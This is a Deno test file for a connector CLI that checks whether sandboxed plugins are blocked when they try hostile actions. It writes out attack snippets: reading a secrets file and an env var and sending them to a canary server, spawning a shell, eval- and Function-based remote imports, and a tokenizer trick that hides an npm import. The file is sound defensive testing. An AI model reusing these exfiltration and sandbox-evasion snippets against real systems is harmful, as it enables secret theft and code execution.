/**
 * Hostile connector plugins, end to end. Each attack (write a file, read `.dlt/secrets.toml`,
 * read an env var, spawn a process, fetch a host the connector did not declare, `import()` an
 * http URL, build an import with `eval` or `new Function`) fails at `dltx add` (which never
 * runs plugin code) and at `dltx run`, in the module's top-level code and in a processing step.
 *
 * A second local server (the canary) counts requests: none may reach it. The secret (in
 * `.dlt/secrets.toml`, used by the engine's own requests) and an env var set for the run
 * never appear in any output or in any file the runs leave behind.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { join, relative } from "node:path";
import { type CliResult, json, serve, tempProject } from "./_helpers.ts";

const SECRET = `secret-${crypto.randomUUID()}`;
const ENV_CANARY = `env-canary-${crypto.randomUUID()}`;
const USERS = [{ id: 1, name: "Ada" }, { id: 2, name: "Bob" }];

type Project = Awaited<ReturnType<typeof tempProject>>;

/** The API the connector is for, the canary no request may reach, and a project with a secret. */
async function hostileSetup() {
  const api = serve((req) => {
    // The engine's own request carries the secret; the sandbox never sees it.
    if (req.headers.get("authorization") !== `Bearer ${SECRET}`) {
      return json({ error: "unauthorized" }, { status: 401 });
    }
    return json({ data: USERS });
  });
  const canary = serve(() =>
    new Response("export default 1;", { headers: { "content-type": "application/javascript" } })
  );
  const p = await tempProject();
  await Deno.mkdir(p.path(".dlt"));
  await Deno.writeTextFile(p.path(".dlt", "secrets.toml"), `[sources]\ntoken = "${SECRET}"\n`);
  return {
    api,
    canary,
    p,
    dltx: (args: string[]) => p.dltx(args, { DLTX_TEST_CANARY: ENV_CANARY }),
    async [Symbol.asyncDispose]() {
      await p[Symbol.asyncDispose]();
      await canary[Symbol.asyncDispose]();
      await api[Symbol.asyncDispose]();
    },
  };
}

/** A connector with `attack` in its module's top-level code or in its map step. */
function connector(name: string, api: string, attack: { module?: string; step?: string }) {
  return `${attack.module ?? ""}
export default {
  name: ${JSON.stringify(name)},
  config: { token: { secret: true } },
  client: {
    base_url: ${JSON.stringify(api)},
    paginator: "single_page",
    auth: { type: "bearer", token: "{token}" },
  },
  resources: [{
    name: "users",
    endpoint: { path: "users", data_selector: "data" },
    processing_steps: [{ map: async (r) => { ${attack.step ?? ""}; return r; } }],
  }],
};
`;
}

/** Each attack, as code run in the connector's sandbox, and what stops it. */
function attacks(canary: string, pwned: string): Record<string, { code: string; error: RegExp }> {
  const q = JSON.stringify;
  return {
    write: {
      code: `Deno.writeTextFileSync(${q(pwned)}, "pwned")`,
      error:
        /was denied write access to "[^"]*pwned\.txt" .*: connector code cannot write files, and this cannot be granted$/,
    },
    secrets: {
      code: `const s = Deno.readTextFileSync(".dlt/secrets.toml");
        await fetch(${q(canary)} + "/secrets?" + encodeURIComponent(s))`,
      error:
        /was denied read access to "\.dlt\/secrets\.toml" .*: connector code may read only the connector's own files, and this cannot be granted$/,
    },
    env: {
      code: `const v = Deno.env.get("DLTX_TEST_CANARY");
        await fetch(${q(canary)} + "/env?" + v)`,
      error: /was denied env access to "DLTX_TEST_CANARY" .*, and this cannot be granted$/,
    },
    spawn: {
      code: `new Deno.Command("sh", { args: ["-c", "echo pwned > ${pwned}"] }).outputSync()`,
      error:
        /was denied run access to "sh" .*: connector code cannot run programs, and this cannot be granted$/,
    },
    fetch: {
      code: `await fetch(${q(canary)} + "/exfil")`,
      error: new RegExp(`was denied net access to "${new URL(canary).host}" `),
    },
    evalImport: {
      code: `await eval("imp" + "ort(" + JSON.stringify(${q(canary)} + "/evil.js") + ")")`,
      error: /eval is not available to connector code, which runs in a sandbox$/,
    },
    functionImport: {
      code: `await new Function("u", "return imp" + "ort(u)")(${q(canary)} + "/evil.js")`,
      error:
        /Building code from a string \(eval, new Function\) is not available to connector code/,
    },
  };
}

/** Every file under the project (but the secrets file itself) holds neither canary value. */
async function assertNothingLeaked(p: Project, outputs: CliResult[]): Promise<void> {
  for (const res of outputs) {
    for (const text of [res.stdout, res.stderr]) {
      ok(!text.includes(SECRET), `the secret leaked into output: ${text}`);
      ok(!text.includes(ENV_CANARY), `the env var leaked into output: ${text}`);
    }
  }
  const decoder = new TextDecoder("latin1");
  const walk = async (dir: string) => {
    for await (const entry of Deno.readDir(dir)) {
      const path = join(dir, entry.name);
      if (entry.isDirectory) await walk(path);
      else if (entry.isFile && relative(p.dir, path) !== join(".dlt", "secrets.toml")) {
        const text = decoder.decode(await Deno.readFile(path));
        ok(!text.includes(SECRET), `the secret is in ${path}`);
        ok(!text.includes(ENV_CANARY), `the env var is in ${path}`);
      }
    }
  };
  await walk(p.dir);
}

function oneLineError(res: CliResult, pattern: RegExp): void {
  equal(res.code, 1, `expected exit 1, got ${res.code}: ${res.stderr}`);
  match(res.stderr, /^error: [^\n]+\n$/, `expected one line: ${res.stderr}`);
  match(res.stderr.trimEnd(), pattern);
}

Deno.test("hostile plugins: no attack succeeds at add, at load or in a processing step", async () => {
  await using s = await hostileSetup();
  const { p, canary } = s;
  const pwned = p.path("pwned.txt");
  const outputs: CliResult[] = [];
  for (const [attack, { code, error }] of Object.entries(attacks(canary.url, pwned))) {
    const name = `evil_${attack}`.toLowerCase();
    // In the module's top-level code: `add` reads it and pins it, running nothing.
    await Deno.writeTextFile(p.path(`${name}.ts`), connector(name, s.api.url, { module: code }));
    const added = await s.dltx(["add", "connector", `./${name}.ts`]);
    equal(added.code, 0, `${attack}: ${added.stderr}`);
    match(added.stdout, new RegExp(`^Added connector "${name}"`));
    const run = await s.dltx(["run", name]);
    oneLineError(run, error);
    match(
      run.stderr,
      new RegExp(
        `^error: (Connector|Cannot import connector module) "${name}" ` +
          `\\(\\.dltx/connectors/${name}/${name}\\.ts\\)( was denied .* while loading)?`,
      ),
    );
    // In a processing step, run straight from its file.
    const stepFile = `${name}_step.ts`;
    await Deno.writeTextFile(p.path(stepFile), connector(name, s.api.url, { step: code }));
    const step = await s.dltx(["run", `./${stepFile}`]);
    oneLineError(step, error);
    match(
      step.stderr,
      new RegExp(
        `^error: Connector "${name}"(, resource "users": processing step 1 \\(map\\) failed: | ` +
          `was denied .* in processing step 1 \\(map\\) of resource "users": )`,
      ),
    );
    outputs.push(added, run, step);
    equal(canary.requests.length, 0, `${attack} reached the canary`);
    equal(await Deno.stat(pwned).then(() => true, () => false), false, `${attack} wrote a file`);
  }
  // Only the engine asked the API (with the secret), once per processing-step run.
  equal(s.api.requests.length, Object.keys(attacks(canary.url, pwned)).length);
  await assertNothingLeaked(p, outputs);
});

Deno.test("hostile plugins: an import of code no hash covers is refused before anything runs", async () => {
  await using s = await hostileSetup();
  const { p, canary } = s;
  const cases: Record<string, { code: string; error: RegExp }> = {
    httpImport: {
      code: `await import(${JSON.stringify(`${canary.url}/evil.js`)});`,
      error: new RegExp(`line 1 imports "${canary.url}/evil\\.js" at run time`),
    },
    // The form of the issue: a scanner reading tokens sees only a string.
    functionImport: {
      code: `await new Function("u", "return import(u)")(${JSON.stringify(`${canary.url}/e.js`)});`,
      error: /line 1: "import\(" is not followed by a relative string literal/,
    },
    // A regex the tokenizer takes for a division opens a template literal that hides the
    // import from it; Deno would load an npm: package into a sandbox without checking it.
    npmImport: {
      code: "const a = 1, s = '';\nif (a) /`/.test(s);\nimport 'npm:dltx-canary';\nconst t = `x`;",
      error: /mentions an npm: specifier; a plugin may not import npm packages/,
    },
  };
  const outputs: CliResult[] = [];
  for (const [name, { code, error }] of Object.entries(cases)) {
    const file = `${name.toLowerCase()}.ts`;
    await Deno.writeTextFile(
      p.path(file),
      connector(name.toLowerCase(), s.api.url, { module: code }),
    );
    const added = await s.dltx(["add", "connector", `./${file}`]);
    oneLineError(added, error);
    const run = await s.dltx(["run", `./${file}`]);
    oneLineError(run, error);
    outputs.push(added, run);
  }
  equal(canary.requests.length, 0);
  equal(s.api.requests.length, 0);
  equal(await Deno.stat(p.path("dltx.lock")).then(() => true, () => false), false);
  await assertNothingLeaked(p, outputs);
});

Deno.test("hostile plugins: a connector trying everything loads its data, and every attempt was denied", async () => {
  await using s = await hostileSetup();
  const { p, canary } = s;
  const probe = Object.entries(attacks(canary.url, p.path("pwned.txt"))).map(([name, a]) =>
    `try { ${a.code}; out.${name} = "succeeded"; } catch (e) { out.${name} = e.name; }`
  ).join("\n");
  const module =
    `const out: Record<string, string> = {};\n${probe}\nconst atLoad = JSON.stringify(out);`;
  const step = `const out: Record<string, string> = {};\n${probe}\n` +
    `r.at_load = atLoad; r.in_step = JSON.stringify(out);`;
  await Deno.writeTextFile(p.path("prober.ts"), connector("prober", s.api.url, { module, step }));
  const added = await s.dltx(["add", "connector", "./prober.ts"]);
  equal(added.code, 0, added.stderr);
  const run = await s.dltx(["run", "prober"]);
  equal(run.code, 0, run.stderr);
  const rows = await p.query(
    "prober_pipeline.duckdb",
    "SELECT id, at_load, in_step FROM prober_pipeline_dataset.users ORDER BY id",
  );
  deepEqual(rows.map((r) => Number(r.id)), [1, 2]);
  const denied = {
    write: "NotCapable",
    secrets: "NotCapable",
    env: "NotCapable",
    spawn: "NotCapable",
    fetch: "NotCapable",
    evalImport: "EvalError",
    functionImport: "EvalError",
  };
  for (const row of rows) {
    deepEqual(JSON.parse(String(row.at_load)), denied);
    deepEqual(JSON.parse(String(row.in_step)), denied);
  }
  equal(canary.requests.length, 0);
  equal(await Deno.stat(p.path("pwned.txt")).then(() => true, () => false), false);
  await assertNothingLeaked(p, [added, run]);
});

Deno.test("allowed_hosts grants a processing step a host, and nothing else does", async () => {
  await using s = await hostileSetup();
  const { p, canary } = s;
  const source = connector("enrich", s.api.url, {
    step: `const res = await fetch(${JSON.stringify(canary.url)} + "/enrich/" + r.id);
      r.enriched = (await res.text()).length > 0`,
  }).replace(
    `name: "enrich",`,
    `name: "enrich",\n  allowed_hosts: [${JSON.stringify(canary.url)}],`,
  );
  await Deno.writeTextFile(p.path("enrich.ts"), source);
  const run = await s.dltx(["run", "./enrich.ts"]);
  equal(run.code, 0, run.stderr);
  deepEqual(canary.requests.map((r) => new URL(r.url).pathname), ["/enrich/1", "/enrich/2"]);
  // The same connector without the grant is stopped at its first request.
  await Deno.writeTextFile(p.path("enrich.ts"), source.replace(/ {2}allowed_hosts: .*\n/, ""));
  const denied = await s.dltx(["run", "./enrich.ts"]);
  oneLineError(
    denied,
    new RegExp(
      `^error: Connector "enrich" was denied net access to "${new URL(canary.url).host}" in ` +
        `processing step 1 \\(map\\) of resource "users": connector code may reach only the ` +
        `hosts of its client\\.base_url, its OAuth token URL and its allowed_hosts; add ` +
        `"${new URL(canary.url).host}" to the connector's allowed_hosts to allow it$`,
    ),
  );
  equal(canary.requests.length, 2);
  await assertNothingLeaked(p, [run, denied]);
});
